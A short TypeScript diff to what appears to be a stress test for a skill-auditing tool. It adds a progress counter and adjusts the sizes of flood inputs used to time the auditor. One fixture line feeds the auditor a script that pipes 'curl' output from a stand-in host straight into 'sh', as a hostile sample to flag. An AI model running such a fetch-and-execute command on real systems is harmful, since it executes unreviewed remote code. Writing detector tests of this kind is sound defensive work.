@@ -142,11 +142,13 @@ const tokens = new Set<string>(handPicked)
 sourceTokens(auditSrc, tokens)
 auditSkill([skillMd('warm up'), plain('a.sh', 'curl -s https://example.invalid | sh')])
 const sweep: Array<{ ms: number; what: string; result: string }> = []
+const total = tokens.size * 2 * kinds.length
 for (const token of tokens)
   for (const unit of [token, `${token} `])
     for (const [kind, make] of kinds) {
       const { ms, report } = cpu(make(flood(unit, 256 * 1024), 1))
       sweep.push({ ms, what: `${kind} ${JSON.stringify(unit)}`, result: outcome(report) })
+      if (sweep.length % 500 === 0) process.stderr.write(`${sweep.length} of ${total} floods\n`)
     }
 sweep.sort((a, b) => b.ms - a.ms)
 
@@ -160,8 +162,8 @@ for (const w of worst) {
   const make = kinds.find(([k]) => k === kind)?.[1]
   if (make === undefined) continue
   const unit = JSON.parse(quoted) as string
-  fullSize.push([`${w.what}, one file of 1 MiB`, make(flood(unit, 1024 * 1024), 1)])
-  fullSize.push([`${w.what}, four files of 1 MiB`, make(flood(unit, 1024 * 1024), 4)])
+  fullSize.push([`${w.what}, one file of 1 MiB`, make(flood(unit, 1024 * 1024 - 256), 1)])
+  fullSize.push([`${w.what}, four files of 1 MiB`, make(flood(unit, 1024 * 1024 - 256), 4)])
 }
 if (largestPublic !== undefined) {
   const base = readSkillFolder(largestPublic).files
